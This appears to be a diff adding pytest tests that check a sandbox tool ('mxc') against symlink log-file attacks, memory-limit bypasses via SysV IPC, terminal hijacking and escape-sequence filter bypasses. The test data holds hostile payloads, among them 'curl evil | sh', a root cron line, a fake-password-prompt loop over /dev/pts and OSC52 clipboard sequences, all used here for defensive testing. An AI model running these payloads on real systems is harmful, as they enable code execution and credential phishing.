@@ -18,8 +18,8 @@ import time
 
 import pytest
 
-from conftest import (DROP, MXC_EXEC, UID, assert_ok_envelope, errno_of, h, owned_tmpdir, rl,  # noqa: F401
-                      unique, wait_until)
+from conftest import (DROP, MXC_EXEC, UID, assert_ok_envelope, errno_of, h, oneshot_request,  # noqa: F401
+                      owned_tmpdir, rl, unique, verb_result, wait_until)
 
 OSC52 = b"\x1b]52;c;cGF5bG9hZA==\x07"
 
@@ -122,6 +122,47 @@ def test_log_file_symlink_planted_by_the_sandbox_is_refused(mxc, session, target
     assert os.listdir(target_dir) == [], os.listdir(target_dir)
 
 
+def _log_refused(r, target_dir):
+    assert r.rc != 0 and r.error, r.describe()
+    assert r.error["operation"] == "log.open", r.describe()
+    assert "symlink" in r.error["message"] or "live sandbox" in r.error["message"], r.describe()
+    assert "pwn" not in r.stderr, "the workload ran and its stderr went somewhere: " + r.describe()
+    assert os.listdir(target_dir) == [], os.listdir(target_dir)
+
+
+def test_log_file_through_a_link_planted_by_an_ended_oneshot_is_refused(mxc, host_dir, target_dir):
+    """One-shot 1 (rw grant G) plants G/d -> target; it has ended, so no live claim covers G
+    when the next one-shot's --log-file G/d/x.log is opened (before its own grants are claimed).
+    No symlink is followed anywhere in a log path: refused, the target untouched."""
+    g = host_dir("g-oneshot")
+    r = mxc.oneshot("ln -s %s %s/d && echo planted" % (target_dir, g), filesystem={"readwritePaths": [g]})
+    assert (r.rc, r.stdout) == (0, "planted\n"), r.describe()
+    req = oneshot_request("echo '* * * * * root pwn' >&2", filesystem={"readwritePaths": [g]})
+    r = mxc(argv=["--log-file", os.path.join(g, "d", "x.log"), "--config", request_file(mxc, req)])
+    _log_refused(r, target_dir)
+
+
+def test_log_file_through_a_link_planted_by_an_ended_session_is_refused(mxc, session_factory, host_dir,
+                                                                         target_dir):
+    g = host_dir("g-session")
+    s = session_factory(filesystem={"readwritePaths": [g]})
+    ok(s.exec("ln -s %s %s/d" % (target_dir, g)))
+    assert_ok_envelope(s.stop())
+    assert_ok_envelope(s.deprovision())
+    req = oneshot_request("echo '* * * * * root pwn' >&2")
+    r = mxc(argv=["--log-file", os.path.join(g, "d", "x.log"), "--config", request_file(mxc, req)])
+    _log_refused(r, target_dir)
+
+
+def test_log_file_inside_a_live_rw_grant_is_refused(mxc, session_factory, host_dir):
+    g = host_dir("g-live")
+    s = session_factory(filesystem={"readwritePaths": [g]})
+    req = oneshot_request("echo '* * * * * root pwn' >&2")
+    r = mxc(argv=["--log-file", os.path.join(g, "x.log"), "--config", request_file(mxc, req)])
+    _log_refused(r, g)
+    assert s.exec("true").rc == 0
+
+
 def test_workload_stderr_never_lands_in_the_log(mxc, sandbox, scratch):
     log = os.path.join(scratch, "mxc-%s.log" % unique("log"))
     sb = sandbox()
@@ -160,6 +201,32 @@ def test_rootless_log_file_symlink_cannot_reach_the_users_files(rl):
         subprocess.run(["rm", "-rf", home])
 
 
+def test_rootless_log_file_through_a_link_planted_by_an_ended_oneshot_is_refused(rl):
+    home = owned_tmpdir("mxc-rootless-home-")
+    bashrc = os.path.join(home, ".bashrc")
+    with open(bashrc, "w") as f:
+        f.write("# the user's own\n")
+    os.chown(bashrc, UID, UID)
+    g = os.path.join(rl.scratch, "g")
+    os.mkdir(g)
+    os.chown(g, UID, UID)
+    try:
+        r = rl.oneshot("ln -s %s %s/d && echo planted" % (home, g), filesystem={"readwritePaths": [g]})
+        assert (r.rc, r.stdout) == (0, "planted\n"), r.describe()
+        req = oneshot_request("echo 'curl evil | sh' >&2", filesystem={"readwritePaths": [g]})
+        path = rl.config_file(req)
+        os.chmod(path, 0o644)
+        p = subprocess.run(DROP + [MXC_EXEC, "--log-file", os.path.join(g, "d", ".bashrc"), "--config", path],
+                           capture_output=True, env=rl.env(), timeout=60)
+        assert p.returncode != 0, (p.stdout, p.stderr)
+        assert b'"operation":"log.open"' in p.stdout.replace(b" ", b""), p.stdout
+        assert b"curl evil" not in p.stderr, p.stderr
+        assert open(bashrc).read() == "# the user's own\n"
+        assert sorted(os.listdir(home)) == [".bashrc"], os.listdir(home)
+    finally:
+        subprocess.run(["rm", "-rf", home])
+
+
 # ------------------------------------------------------------------------------------------------
 # 2. rootless memory: no cgroup is delegated here, and the bound must still hold in one process
 
@@ -176,31 +243,81 @@ def test_rootless_memory_bound_holds_against_shared_memfd_and_stack_growth(rl):
     assert "RLIMIT_AS" in probe["rlimitFallback"], probe
 
 
+def test_rootless_memory_bound_holds_against_sysv_ipc_and_message_queues(rl):
+    """SysV shared memory lives in the IPC namespace, not in any process's address space:
+    segments attached, touched and detached (no IPC_RMID) stay resident and RLIMIT_AS never
+    sees them. Without a memory cgroup, shmget (and msgget/semget: kernel memory of the same
+    kind) are refused with ENOSYS, and POSIX message queues are bounded by RLIMIT_MSGQUEUE."""
+    r = rl.oneshot(h("ipctricks", 10, 30), host_env={"MXC_MEMORY_MAX": str(64 << 20)})
+    out = ok(r)
+    assert errno_of(out, "ipctricks_shmget") == "ENOSYS", out
+    assert "made=0" in verb_result(out, "ipctricks_shmget"), out
+    assert errno_of(out, "ipctricks_msgget") == "ENOSYS", out
+    assert errno_of(out, "ipctricks_semget") == "ENOSYS", out
+    mq_bytes = int(verb_result(out, "ipctricks_mq").split("bytes=")[1])
+    assert mq_bytes <= 1 << 20, out
+    # a session: nothing persists across execs either
+    s = rl.provision(env={"MXC_MEMORY_MAX": str(64 << 20)})
+    sid = s["sandboxId"]
+    assert_ok_envelope(rl.phase("start", sid, env={"MXC_MEMORY_MAX": str(64 << 20)}))
+    for _ in range(2):
+        r = rl.exec(sid, h("ipctricks", 3, 30), host_env={"MXC_MEMORY_MAX": str(64 << 20)})
+        assert errno_of(ok(r), "ipctricks_shmget") == "ENOSYS", r.stdout
+    r = rl.exec(sid, "cat /proc/sysvipc/shm | wc -l")
+    assert ok(r).strip() in ("0", "1"), r.stdout  # a header line, no segment
+
+
 # ------------------------------------------------------------------------------------------------
 # 3. a terminal per exec
+
+
+# exec 1 leaves this prober: for ~15 s it opens every /dev/pts/N it can, writes a fake prompt
+# to it and records that, and beats a heartbeat counter; exec 2 (attached) reads the heartbeat
+# twice a second apart, so its screen proves the prober was alive while it ran
+TAKEOVER_PROBER = ("i=0; while [ $i -lt 300 ]; do for t in /dev/pts/[0-9]*; do "
+                   "[ -e \"$t\" ] && { printf 'Password: ' > \"$t\" && echo \"opened $t\" >> $HOME/takeover; }; "
+                   "done; i=$((i+1)); echo $i > $HOME/beat; sleep 0.05; done")
+TAKEOVER_VICTIM = ("tty; a=$(cat $HOME/beat); sleep 1; b=$(cat $HOME/beat); "
+                   "[ -n \"$a\" ] && [ \"$a\" != \"$b\" ] && echo prober-alive; sleep 1; echo done-here")
+
+
+def _takeover_checks(term, later_exec):
+    try:
+        assert term.read_until(b"done-here"), term.screen
+        assert term.finish() == 0, term.screen
+        assert b"/dev/pts/" in term.screen, term.screen
+        assert b"prober-alive" in term.screen, "exec 1's prober was not running: " + repr(term.screen)
+        assert b"Password" not in term.screen, term.screen
+    finally:
+        term.close()
+    r = later_exec("sleep 1; cat $HOME/takeover 2>/dev/null; true")
+    assert r.rc == 0 and "opened" not in r.stdout, r.stdout
 
 
 def test_an_earlier_exec_cannot_take_over_a_later_execs_terminal(mxc, session):
     """exec 1 leaves a process that opens every /dev/pts/N it can and writes a fake prompt to
     it; exec 2 is attached to a person's terminal. Exec 2's terminal is a devpts instance of
     its own: exec 1 never reaches it, and nothing of exec 1 shows on the person's screen."""
-    probe = ("i=0; while [ $i -lt 60 ]; do for t in /dev/pts/[0-9]*; do "
-             "[ -e \"$t\" ] && { printf 'Password: ' > \"$t\" && echo \"opened $t\" >> $HOME/takeover; }; "
-             "done; i=$((i+1)); sleep 0.05; done")
     bg = mxc.popen({"phase": "exec", "sandboxId": session.id,
-                    "process": {"commandLine": "(%s) </dev/null >/dev/null 2>&1 &" % probe}})
+                    "process": {"commandLine": "(%s) </dev/null >/dev/null 2>&1 &" % TAKEOVER_PROBER}})
     bg.communicate(timeout=60)
     term = terminal_run(mxc, {"phase": "exec", "sandboxId": session.id,
-                              "process": {"commandLine": "tty; sleep 2; echo done-here"}})
-    try:
-        assert term.read_until(b"done-here"), term.screen
-        assert term.finish() == 0, term.screen
-        assert b"/dev/pts/" in term.screen, term.screen
-        assert b"Password" not in term.screen, term.screen
-    finally:
-        term.close()
-    r = session.exec("sleep 3; cat $HOME/takeover 2>/dev/null; true")
-    assert "opened" not in r.stdout, r.stdout
+                              "process": {"commandLine": TAKEOVER_VICTIM}})
+    _takeover_checks(term, session.exec)
+
+
+def test_rootless_an_earlier_exec_cannot_take_over_a_later_execs_terminal(rl):
+    """The same, rootless: every exec is the caller's own uid, so only the devpts instance of
+    its own keeps exec 1 out of exec 2's terminal."""
+    res = rl.provision(helper=False)
+    sid = res["sandboxId"]
+    assert_ok_envelope(rl.phase("start", sid))
+    r = rl.exec(sid, "(%s) </dev/null >/dev/null 2>&1 &" % TAKEOVER_PROBER)
+    assert r.rc == 0, r.describe()
+    path = rl.config_file({"phase": "exec", "sandboxId": sid, "process": {"commandLine": TAKEOVER_VICTIM}})
+    os.chmod(path, 0o644)
+    term = Terminal(DROP + [MXC_EXEC, "--experimental", "--config", path], rl.env())
+    _takeover_checks(term, lambda cmd: rl.exec(sid, cmd))
 
 
 # ------------------------------------------------------------------------------------------------
@@ -252,6 +369,27 @@ def test_terminal_sequences_acting_on_the_persons_machine_are_filtered(mxc, sand
     assert OSC52 in raw.screen, raw.screen  # the opt-out passes it through
 
 
+def test_terminal_filter_bypass_forms_do_not_reach_the_persons_terminal(mxc, sandbox):
+    """A C0 control after ESC or inside CSI/OSC/DCS, and the C1 introducers written in UTF-8 or
+    as raw 8-bit bytes: a terminal still acts on the sequence, so the filter must judge it."""
+    sb = sandbox()
+    cmd = ("printf 'A\\033\\015]52;c;cGF5bG9hZA==\\007B\\033[\\0156nC\\033[\\015cD"
+           "\\033]5\\0152;c;cGF5bG9hZA==\\007E\\033P\\015$qm\\033\\\\F"
+           "\\302\\23552;c;cGF5bG9hZA==\\007G\\302\\2336nH\\302\\233cI\\302\\220$qm\\302\\234J"
+           "\\2336nK\\23552;c;cGF5bG9hZA==\\007L\\033[1mM\\033[0m\\n'")
+    term = terminal_run(mxc, sb.request(cmd))
+    try:
+        assert term.finish() == 0, term.screen
+    finally:
+        term.close()
+    screen = term.screen.replace(b"\r", b"")
+    for dangerous in (b"]52", b"52;c", b"6n", b"[c", b"$q", b"\xc2\x9d", b"\xc2\x9b", b"\xc2\x90", b"\x9b", b"\x9d"):
+        assert dangerous not in screen, (dangerous, term.screen)
+    for visible in (b"AB", b"BC", b"CD", b"DE", b"EF", b"FG", b"GH", b"HI", b"IJ", b"JK", b"KL"):
+        assert visible in screen, (visible, term.screen)
+    assert b"L\x1b[1mM\x1b[0m" in screen, term.screen  # colours still pass
+
+
 def test_workload_on_a_terminal_gets_one_of_its_own(mxc, sandbox):
     sb = sandbox()
     term = terminal_run(mxc, sb.request("tty; stty size; test -t 0 -a -t 1 -a -t 2 && echo all-ttys"))
@@ -301,3 +439,69 @@ def test_other_signals_of_an_attached_caller_restore_the_terminal(mxc, session, 
     # the exec died with its caller: the session serves the next one
     r = session.exec("echo next")
     assert (r.rc, r.stdout) == (0, "next\n"), r.describe()
+
+
+@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGHUP])
+def test_other_signals_of_an_attached_oneshot_caller_restore_the_terminal(mxc, sig):
+    term = terminal_run(mxc, oneshot_request("echo started; sleep 60"))
+    try:
+        assert term.read_until(b"started"), term.screen
+        lflag = term.lflag()
+        assert not (lflag & termios.ECHO) and not (lflag & termios.ICANON), "not in raw mode"
+        term.p.send_signal(sig)
+        term.p.wait(timeout=30)
+        lflag = term.lflag()
+        assert lflag & termios.ECHO and lflag & termios.ICANON, "the terminal was left raw"
+    finally:
+        term.close()
+
+
+# ------------------------------------------------------------------------------------------------
+# 6. no grant reaches mxc's own state: the state root, the claims directory, the workspace root
+
+
+def _grant_refused(r, path):
+    assert r.rc != 0 and r.error, r.describe()
+    assert r.error["code"] == "policy_validation", r.describe()
+    assert path in r.error["message"] and ("covers" in r.error["message"] or "inside" in r.error["message"]), \
+        r.describe()
+    assert "RAN" not in r.stdout, r.describe()
+
+
+def test_grants_covering_mxcs_own_state_are_refused(mxc, session_factory):
+    ws_root = mxc.state_dir + ".ws"
+    s = session_factory()  # makes the state root and the workspace root
+    assert s.id
+    inside = next(os.path.join(mxc.state_dir, d) for d in os.listdir(mxc.state_dir)
+                  if os.path.isdir(os.path.join(mxc.state_dir, d)) and not d.startswith("."))
+    os.makedirs("/var/lib/mxc/claims", exist_ok=True)
+    cases = [("readwritePaths", os.path.dirname(mxc.state_dir)),   # contains the state root
+             ("readwritePaths", mxc.state_dir),
+             ("readonlyPaths", mxc.state_dir),
+             ("readwritePaths", inside),                              # another sandbox's state
+             ("readonlyPaths", "/var/lib/mxc/claims"),
+             ("readwritePaths", "/var/lib/mxc"),
+             ("readwritePaths", ws_root)]
+    for key, path in cases:
+        r = mxc.oneshot("echo RAN", filesystem={key: [path]}, helper=False)
+        _grant_refused(r, path)
+        # a session: refused by the start that would mount it (provision only records the policy)
+        r = mxc({"containment": "isolation_session", "phase": "provision", "filesystem": {key: [path]}})
+        if r.rc == 0:
+            r = mxc.phase("start", r.result["sandboxId"])
+        _grant_refused(r, path)
+    # a directory beside them is fine
+    r = mxc.oneshot("echo RAN", filesystem={"readwritePaths": [mxc.scratch]})
+    assert (r.rc, r.stdout) == (0, "RAN\n"), r.describe()
+
+
+def test_rootless_grants_covering_mxcs_own_state_are_refused(rl):
+    claims = "/tmp/mxc-claims-%d" % UID
+    res = rl.provision()  # makes the state root, the workspace root, the claims directory
+    assert res["sandboxId"]
+    for key, path in [("readwritePaths", rl.state_dir), ("readwritePaths", os.path.dirname(rl.state_dir)),
+                      ("readonlyPaths", claims), ("readwritePaths", rl.state_dir + ".ws")]:
+        assert os.path.isdir(path), path
+        req = oneshot_request("echo RAN", filesystem={key: [path]}, helper=False)
+        r = rl(req)
+        _grant_refused(r, path)
